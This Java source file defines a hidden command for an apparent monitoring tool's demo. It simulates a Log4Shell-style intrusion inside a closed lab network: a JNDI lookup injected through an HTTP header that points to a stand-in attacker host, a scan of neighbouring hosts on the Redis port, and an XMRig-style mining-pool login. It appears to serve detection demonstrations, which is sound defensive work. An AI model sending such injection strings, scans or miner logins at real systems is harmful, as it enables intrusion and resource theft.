/*
 * Copyright 2026 the Podtap authors
 * SPDX-License-Identifier: Apache-2.0
 */
package io.podtap.cli.demo;

import io.podtap.core.agent.Threads;
import io.podtap.core.config.Program;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Future;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import picocli.CommandLine.Command;
import picocli.CommandLine.Option;

/**
 * The programs of the demonstrated attack, all within the demo's own network: as {@code pod} a web
 * application whose logger resolves JNDI lookups, and what a payload does in it; as {@code outside}
 * the servers that it leads to; as {@code attacker} the one request that begins it.
 */
@Command(name = "demo-intrusion", hidden = true, description = "Programs of the demo's attack.")
public final class DemoIntrusion implements Program {

  static final int APPLICATION_PORT = 8080;
  static final String ATTACKER = "10.70.0.66";
  static final String REDIS = "10.70.0.20";
  static final int NEIGHBOURS_FIRST = 100;
  static final int NEIGHBOURS = 30;

  private static final int LDAP_PORT = 1389;
  private static final int POOL_PORT = 3333;
  private static final int REDIS_PORT = 6379;
  private static final int WAIT_MS = 1_500;
  private static final Pattern LOOKUP = Pattern.compile("jndi:ldap://([0-9.]+):([0-9]+)/");

  /** An anonymous bind, RFC 4511 section 4.2. */
  private static final byte[] BIND = {0x30, 0x0C, 2, 1, 1, 0x60, 7, 2, 1, 3, 4, 0, (byte) 0x80, 0};

  private static final byte[] BIND_ANSWER = {0x30, 0x0C, 2, 1, 1, 0x61, 7, 10, 1, 0, 4, 0, 4, 0};

  @Option(names = "--role", required = true, description = "pod, outside or attacker.")
  private String role = "";

  @Option(names = "--pod", description = "Address of the pod.")
  private String pod = "";

  @Override
  public Integer call() throws IOException {
    switch (role) {
      case "pod" -> {
        serve(APPLICATION_PORT, this::answerPage);
        forever();
      }
      case "outside" -> {
        serve(LDAP_PORT, connection -> answer(connection, BIND_ANSWER));
        serve(
            POOL_PORT,
            connection ->
                answer(
                    connection,
                    bytes(
                        "{\"id\":1,\"result\":{\"status\":\"OK\",\"job\":{\"blob\":\"07\",\"job_id\":\"1\"}}}\n")));
        serve(REDIS_PORT, connection -> answer(connection, bytes("+PONG\r\n")));
        forever();
      }
      default -> attack();
    }
    return 0;
  }

  /** Says that the servers listen, and waits to be ended. */
  private static void forever() {
    System.out.println("ready");
    try {
      new CountDownLatch(1).await();
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }

  @FunctionalInterface
  private interface Answer {
    void to(Socket connection) throws IOException;
  }

  private static void serve(int port, Answer answer) throws IOException {
    ServerSocket listener = new ServerSocket(port);
    ExecutorService threads = Threads.virtual("intrusion");
    Future<?> _ =
        threads.submit(() -> {
          while (true) {
            Socket connection = listener.accept();
            Future<?> ignored =
                threads.submit(() -> {
                  try (connection) {
                    answer.to(connection);
                  }
                  return null;
                });
          }
        });
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.ISO_8859_1);
  }

  private static String read(Socket connection) throws IOException {
    byte[] buffer = new byte[4_096];
    int count = connection.getInputStream().read(buffer);
    return new String(buffer, 0, Math.max(0, count), StandardCharsets.ISO_8859_1);
  }

  private static void answer(Socket connection, byte[] answer) throws IOException {
    if (!read(connection).isEmpty()) {
      connection.getOutputStream().write(answer);
      connection.getInputStream().transferTo(java.io.OutputStream.nullOutputStream());
    }
  }

  /** Answers a page; the logger resolves what the request contains. */
  private void answerPage(Socket connection) throws IOException {
    Matcher lookup = LOOKUP.matcher(read(connection));
    connection
        .getOutputStream()
        .write(bytes("HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n"));
    connection.close();
    if (lookup.find()) {
      exchange(lookup.group(1), Integer.parseInt(lookup.group(2)), BIND);
      payload(lookup.group(1));
    }
  }

  /** What an intruder does next: looks for databases, reads from one, mines. */
  private static void payload(String master) {
    try (ExecutorService threads = Threads.virtual("scan")) {
      for (int i = 0; i < NEIGHBOURS; i++) {
        String address = "10.70.0." + (NEIGHBOURS_FIRST + i);
        threads.execute(() -> exchange(address, REDIS_PORT, bytes("")));
      }
    }
    exchange(REDIS, REDIS_PORT, bytes("*1\r\n$4\r\nPING\r\n"));
    exchange(
        master,
        POOL_PORT,
        bytes(
            "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"wallet\","
                + "\"pass\":\"x\",\"agent\":\"XMRig/6.21.0\",\"algo\":[\"rx/0\"]}}\n"));
  }

  private static void exchange(String host, int port, byte[] request) {
    try (Socket connection = new Socket()) {
      connection.connect(new InetSocketAddress(InetAddress.ofLiteral(host), port), WAIT_MS);
      connection.setSoTimeout(WAIT_MS);
      connection.getOutputStream().write(request);
      InputStream answer = connection.getInputStream();
      answer.readNBytes(1);
    } catch (IOException e) {
      return; // nobody is there, which is what a scan finds out
    }
  }

  private void attack() {
    try (Socket connection = new Socket(InetAddress.ofLiteral(pod), APPLICATION_PORT)) {
      connection
          .getOutputStream()
          .write(
              bytes(
                  "GET / HTTP/1.1\r\nHost: shop\r\nX-Api-Version: ${jndi:ldap://"
                      + ATTACKER
                      + ":"
                      + LDAP_PORT
                      + "/a}\r\n\r\n"));
      connection.getInputStream().readAllBytes();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
